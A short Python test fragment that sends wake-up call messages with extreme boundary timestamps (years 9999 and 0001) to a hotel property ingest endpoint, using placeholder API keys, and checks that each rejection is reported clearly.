    for pid, zone, waketime in (("ucm-west", "America/New_York", "9999-12-31T23:59:59"),
                                ("ucm-east", "Asia/Tokyo", "0001-01-01T00:00:00")):
        document = property_document("demo-hotel", id=pid, timezone=zone)
        document["ingest"] = {"api_key": f"{pid}-ingest-key-0123456789"}
        deployment.add_property(document)
        wake = {"datetime": STAMP, "action": "WAKE", "room": "101", "mode": "S", "uid": "w1", "waketime": waketime}
        cases.append(Hostile(f"{zone} {waketime}", "ingest", dumps(wake), path_property=pid, names="waketime",
                             headers={"authorization": f"Bearer {pid}-ingest-key-0123456789"}))
    failures = unclear(deployment, cases)
    assert not failures, "\n".join(failures)
